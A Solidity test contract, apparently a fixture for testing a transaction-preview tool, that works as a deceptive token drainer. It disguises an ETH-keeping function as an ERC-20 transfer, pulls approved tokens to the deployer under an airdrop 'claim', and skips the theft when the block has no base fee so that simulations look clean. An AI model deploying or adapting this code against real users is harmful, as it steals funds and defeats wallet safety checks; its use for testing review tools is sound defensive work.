// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Test contract that does something other than it says, for the review's simulated preview.
/// Its `transfer(address,uint256)` has the ERC-20 selector, so calldata decodes as "send 1 token",
/// but it is payable and keeps the ETH sent with it. Its `claim(token)` promises an airdrop and
/// instead pulls every token of `token` the caller approved to it, to the deployer. Its
/// `claimUnlessSimulated(token)` does nothing where the block has no base fee (how a careless
/// simulation runs) and pulls the tokens where it has one, as on chain.
contract DeceptiveAirdrop {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function transfer(address, uint256) external payable returns (bool) {
        return true;
    }

    function claim(address token) public {
        uint256 allowed = IERC20(token).allowance(msg.sender, address(this));
        uint256 held = IERC20(token).balanceOf(msg.sender);
        require(IERC20(token).transferFrom(msg.sender, owner, allowed < held ? allowed : held), "pull failed");
    }

    function claimUnlessSimulated(address token) external {
        if (block.basefee == 0) return;
        claim(token);
    }
}
